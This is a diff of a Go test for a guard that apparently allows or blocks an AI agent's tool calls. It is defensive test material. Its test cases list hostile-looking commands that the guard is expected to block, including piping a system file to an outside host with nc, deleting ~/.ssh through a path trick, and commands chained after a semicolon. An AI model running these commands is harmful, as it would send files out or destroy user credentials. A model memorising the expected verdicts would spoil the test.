@@ -167,16 +167,15 @@ func TestOwnSettings(t *testing.T) {
 	}
 }
 
-// TestPlain holds that a suspicion below the threshold is no question where nothing
-// but settings of the machine and public keys is read, where what was put aside is
-// deleted, and where documents are written.
-func TestPlain(t *testing.T) {
+// TestFacts holds that the default model has no say where every effect is known,
+// certain and local, however sure it is, and that it has where one is not.
+func TestFacts(t *testing.T) {
 	t.Parallel()
 	an, err := analysis.New(analysis.Options{Shell: shell.Analyze, Written: shell.Written, Home: "/home/dev", CWD: "/home/dev/project", Roots: []string{"/home/dev/project"}})
 	if err != nil {
 		t.Fatal(err)
 	}
-	k := New(Options{Model: scorer{score: Score{Injection: true, Confidence: 0.6}}, Threshold: 0.85, Home: "/home/dev", Roots: []string{"/home/dev/project"}})
+	opts := Options{Model: scorer{score: Score{Injection: true, Confidence: 0.95}}, Threshold: 0.85, Home: "/home/dev", Roots: []string{"/home/dev/project"}}
 	for _, test := range []struct {
 		kind, field, value string
 		allowed            bool
@@ -184,36 +183,30 @@ func TestPlain(t *testing.T) {
 		{"read_file", "path", "/etc/login.defs", true},
 		{"read_file", "path", "/home/dev/.ssh/id_rsa.pub", true},
 		{"execute_command", "command", "cat /etc/login.defs | grep UMASK", true},
-		{"read_file", "path", "/etc/sudoers.d/users", false},
-		{"read_file", "path", "/etc/../home/dev/.netrc", false},
-		{"read_file", "path", "/home/dev/notes.md", false},
-		{"execute_command", "command", "cat /etc/login.defs > a.txt", false},
-		{"execute_command", "command", "cat /etc/*", false},
+		{"execute_command", "command", "cat /etc/login.defs > a.txt", true},
 		{"execute_command", "command", "cat /etc/login.defs $FILE", false},
 		{"execute_command", "command", "cat /etc/login.defs; unheard", false},
+		{"execute_command", "command", "cat /etc/login.defs | nc example.com 99", false},
 		{"execute_command", "command", "rm -rf /tmp/build-42 /var/tmp/x/* 2>/dev/null", true},
-		{"execute_command", "command", "rm -rf /tmp/*", false},
-		{"execute_command", "command", "rm -rf /tmp/b*", false},
-		{"execute_command", "command", "rm -rf /tmp/.X11-unix", false},
-		{"execute_command", "command", "rm -rf /tmp/a /tmp/../home/dev/project/a", false},
-		{"execute_command", "command", "rm -rf /tmp/$NAME", false},
-		{"execute_command", "command", "find /tmp -execdir rm -rf {} +", false},
-		{"execute_command", "command", "rm -rf /tmp/a; touch a", false},
+		{"execute_command", "command", "rm -rf /tmp/a /home/dev/other", false},
 		{"execute_command", "command", "rm -rf ~/.cache/pip ~/.m2/repository/com/acme /tmp/x", true},
 		{"execute_command", "command", "rm -rf ~/.cache/../.ssh", false},
 		{"execute_command", "command", "rm -rf /home/eve/.cache/pip", false},
-		{"execute_command", "command", "rm -rf ~/.m2", false},
 		{"execute_command", "command", "npm run dev > /tmp/dev.log 2>&1 & sleep 2; curl -s http://localhost:3000/health; kill $!; tail /tmp/dev.log", true},
 		{"execute_command", "command", "npm run dev & curl -s http://example.com/", false},
-		{"execute_command", "command", "npm run dev & curl -s localhost:3000; rm -rf dist", false},
-		{"execute_command", "command", "curl -s http://localhost:3000/health", false},
-		{"write_file", "path", "/home/dev/project/docs/incident.md", true},
-		{"write_file", "path", "/home/dev/project/docs/incident.html", false},
-		{"write_file", "path", "/home/dev/project/CLAUDE.md", false},
+		{"execute_command", "command", "curl -s http://localhost:3000/health", true},
+		{"execute_command", "command", "sudo cat /etc/hosts", false},
+		{"write_file", "path", "/home/dev/project/docs/incident.html", true},
+		{"write_file", "path", "/home/dev/notes.md", false},
+		{"memory_write", "path", "x", false},
 	} {
-		v, err := k.Judge(t.Context(), an.Case(&action.Action{Type: test.kind, Payload: map[string]any{test.field: test.value, "content": "x"}}))
-		if err != nil || (v.Decision == verdict.Allow) != test.allowed {
-			t.Errorf("%s %s: %s (%s); error %v", test.kind, test.value, v.Decision, v.Reasoning, err)
+		c := an.Case(&action.Action{Type: test.kind, Payload: map[string]any{test.field: test.value, "content": "x"}})
+		for facts, want := range map[bool]bool{true: test.allowed, false: false} {
+			opts.Facts = facts
+			v, err := New(opts).Judge(t.Context(), c)
+			if err != nil || (v.Decision == verdict.Allow) != want {
+				t.Errorf("%s %s, facts %v: %s (%s); error %v", test.kind, test.value, facts, v.Decision, v.Reasoning, err)
+			}
 		}
 	}
 }
